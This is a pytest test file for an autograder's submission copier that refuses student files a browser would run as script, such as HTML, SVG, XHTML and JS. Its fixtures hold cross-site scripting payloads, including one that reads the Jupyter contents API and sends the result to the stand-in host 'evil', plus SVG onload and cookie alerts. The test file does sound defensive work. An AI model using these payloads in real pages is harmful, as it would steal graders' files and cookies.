"""Files beside the notebook that a browser would open as a page that runs script are not
copied by the grader (autograder/emlab_judge/safe_fs.py, copy_submission): the staging
copy is what nbgrader copies into autograded/ (served by the formgrader from the Jupyter
origin, with no sandbox) and from there into feedback/. Judged from outside: the files
under the destination folder, and the reasons given."""

from __future__ import annotations

import os

import pytest

from emlab_judge.safe_fs import MiB, active_content, copy_submission

PAYLOAD = (b"<script>fetch('/api/contents').then(r => r.text())"
           b".then(t => new Image().src = 'https://evil/' + t)</script>")
ACTIVE = {
    "derivation.html": b"<!DOCTYPE html><h1>My derivation</h1>" + PAYLOAD,
    "Page.HTM": PAYLOAD,
    "figure.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>',
    "shout.SVG": b"<svg onload=alert(1)>",
    "data.xml": b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "style.xsl": b'<?xml version="1.0"?><xsl:stylesheet version="1.0"/>',
    "page.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "code.js": b"alert(document.cookie)",
    "module.mjs": b"export const x = 1",
    "archive.html.gz": b"\x1f\x8b\x08\x00",
    "trailing.html.": PAYLOAD,
    "nested/deeper/answer.html": PAYLOAD,
    "README": b"  \n<!doctype html>" + PAYLOAD,
    "notes.dat": b"my notes\n<svg onload=alert(1)>",
    "utf16": "\ufeff<html><script>alert(1)</script></html>".encode("utf-16-le"),
}
HONEST = {
    "data.csv": b"x,y\n1,2\n",
    "notes.txt": b"<script>shown as text: text/plain is never run</script>",
    "derivation.html.txt": ACTIVE["derivation.html"],
    "helper.py": b"def f(x):\n    return x < 2\n",
    "figure.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
    "report.pdf": b"%PDF-1.4\n",
    "numbers.npy": b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, 'shape': (3,), }",
    "values.json": b'{"a": 1}',
    "LICENSE": b"MIT License: a < b and c > d\n",
    "nested/deeper/data.csv": b"1\n",
}


@pytest.fixture
def submission(tmp_path):
    src = tmp_path / "submitted" / "bob" / "01-two-means"
    for name, data in {**ACTIVE, **HONEST}.items():
        path = src / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    (src / "two_means.ipynb").write_text("{}")
    return src


def _files_under(folder) -> set[str]:
    return {os.path.relpath(os.path.join(d, f), folder) for d, _, files in os.walk(folder) for f in files}


def test_no_active_file_reaches_the_staging_copy(submission, tmp_path):
    dest = tmp_path / "staging" / "bob" / "01-two-means"
    report = copy_submission(submission, dest, skip=lambda rel: rel == "two_means.ipynb", max_file=20 * MiB,
                             max_total=100 * MiB)
    assert _files_under(dest) == set(HONEST)
    assert sorted(report.copied) == sorted(HONEST)
    for path in _files_under(dest):
        data = (dest / path).read_bytes()
        assert data == HONEST[path]
    for name in ACTIVE:
        reasons = [r for r in report.refused if r.startswith(f"{name}:")]
        assert len(reasons) == 1, (name, report.refused)
        base = name.rsplit("/", 1)[-1]
        assert "run script" in reasons[0] and f"rename it {base}.txt" in reasons[0], reasons[0]
    assert len(report.refused) == len(ACTIVE)


def test_refusing_active_files_is_the_default_and_can_be_turned_off(submission, tmp_path):
    kept = copy_submission(submission, tmp_path / "all", refuse_active=False)
    assert _files_under(tmp_path / "all") == set(ACTIVE) | set(HONEST) | {"two_means.ipynb"}
    assert kept.refused == []
    default = copy_submission(submission, tmp_path / "default")
    assert not set(ACTIVE) & _files_under(tmp_path / "default")


@pytest.mark.parametrize("name, head, active", [
    ("derivation.html", b"", True),
    ("x.XHTML", b"", True),
    ("a.svgz", b"", True),
    ("feed.rss", b"", True),
    ("no_extension", b"\xef\xbb\xbf<svg/onload=alert(1)>", True),
    ("no_extension", b"some text\n<?xml version='1.0'?>", True),
    ("no_extension", b"plain words, x < y", False),
    ("table.csv", b"<html>", False),
    ("answer.txt", b"<html><script>", False),
    ("weights.npz", b"PK\x03\x04", False),
])
def test_active_content(name, head, active):
    assert bool(active_content(name, head)) is active
